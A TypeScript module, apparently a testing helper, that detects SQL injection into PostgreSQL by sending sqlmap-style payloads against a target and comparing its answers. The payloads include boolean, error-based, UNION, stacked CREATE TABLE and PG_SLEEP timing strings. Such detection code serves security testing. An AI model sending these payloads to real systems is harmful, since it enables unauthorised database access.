/** Something that takes a text, as whoever tries SQL on it sees it. */
export interface Target {
  /** A text that it finds something by; null: none is known. */
  readonly value: string | null;
  /** What is told in answer to a text, and whether it was the answer to something that went wrong inside. */
  ask(text: string): Promise<{ readonly told: string; readonly failed: boolean }>;
  /** The statements that PostgreSQL was sent so far. */
  readonly statements: readonly string[];
  /** Of its database. */
  rows(statement: string): Promise<readonly object[]>;
}

export type Technique = "boolean" | "error" | "union" | "stacked" | "time" | "statement";

/** By what an attacker learns that its text is run as SQL, and the text. */
export type Injections = ReadonlyMap<Technique, string>;

/** Sqlmap's boundaries: what ends the text that a statement holds, and what makes good for the rest of it. */
const boundaries: readonly [string, string][] = [
  ["", ""],
  ["'", " AND 'a'='a"],
  ["'", "--"],
  ["')", " AND ('a'='a"],
  ["')", "--"],
  ["'))", "-- x"],
  ['"', ' AND "a"="a'],
  ["%'", " AND '%'='"],
  ["]::uuid[])", "--"],
  ["\\'", "--"],
];

/** What is tried: texts whose answers are compared with each other, or whose effect shows by itself. */
interface Try {
  readonly technique: Technique;
  readonly text: string;
  /** The same with a condition that is false; with no sleep. */
  readonly twin?: string;
}

/** Seconds, and the milliseconds that are taken for them. */
const sleep = 1;
const slow = 950;
const stacked = "qb_stacked";
/** What PostgreSQL makes of the texts; none of them holds it. */
const made = /qb42|qbPostgreSQL|syntax error at|pg_catalog|22P02/;

/** What sqlmap tries on a text, technique by technique, for PostgreSQL. */
function triesOf(known: string | null): readonly Try[] {
  const value = known ?? "1";
  // What is found may be hidden, or more be found than is.
  const condition = known === null ? "OR NOT 3310=" : "AND 3311=";
  const within = boundaries.flatMap(([prefix, suffix]): Try[] => {
    const text = (sql: string) => `${value}${prefix}${sql}${suffix}`;
    const pause = (seconds: number) => text(` AND 7092=(SELECT 7092 FROM PG_SLEEP(${seconds}))`);
    return [
      { technique: "boolean", text: text(` ${condition}3311`), twin: text(` ${condition}3310`) },
      {
        technique: "error",
        text: text(" AND 2407=CAST((CHR(113)||CHR(98))||(SELECT version())::text AS NUMERIC)"),
      },
      { technique: "union", text: text(" UNION ALL SELECT CHR(113)||CHR(98)||(41+1)") },
      { technique: "stacked", text: text(`;CREATE TABLE IF NOT EXISTS ${stacked} ()`) },
      { technique: "time", text: pause(sleep), twin: pause(0) },
    ];
  });
  const choice = (is: string) => `(SELECT (CASE WHEN (${is}) THEN ${value} ELSE 0 END))`;
  return [
    ...within,
    { technique: "boolean", text: choice("1=1"), twin: choice("1=2") },
    { technique: "time", text: `$$||pg_sleep(${sleep})||$$`, twin: "$$||pg_sleep(0)||$$" },
    { technique: "time", text: `${value},(SELECT 1 FROM PG_SLEEP(${sleep}))`, twin: `${value},(SELECT 1)` },
  ];
}

/** Tries it all, a few texts at once, and of each technique until it has worked. */
export async function injectionsInto(target: Target): Promise<Injections> {
  const found = new Map<Technique, string>();
  const ask = async (text: string) => {
    const from = performance.now();
    const { told, failed } = await target.ask(text);
    const milliseconds = performance.now() - from;
    if (failed || made.test(told)) found.set(/qb42/.test(told) ? "union" : "error", text);
    if (target.statements.some((statement) => statement.includes(text))) found.set("statement", text);
    // What differs by the text alone says nothing.
    return { told: told.replaceAll(JSON.stringify(text).slice(1, -1), ""), milliseconds };
  };
  const isSlow = async (text: string) => (await ask(text)).milliseconds >= slow;
  const hasWorked = async ({ technique, text, twin = "" }: Try) => {
    if (technique === "time") return (await isSlow(text)) && !(await isSlow(twin)) && (await isSlow(text));
    const { told } = await ask(text);
    return technique === "boolean" && told !== (await ask(twin)).told;
  };
  const open = triesOf(target.value).values();
  const tryAll = async () => {
    for (const one of open) {
      if (!found.has(one.technique) && (await hasWorked(one))) found.set(one.technique, one.text);
    }
  };
  await Promise.all([tryAll(), tryAll(), tryAll(), tryAll()]);
  const [{ there } = {}] = (await target.rows(`SELECT to_regclass('${stacked}') IS NOT NULL AS there`)) as {
    there?: boolean;
  }[];
  if (there === true) found.set("stacked", stacked);
  await target.rows(`DROP TABLE IF EXISTS ${stacked}`);
  return found;
}
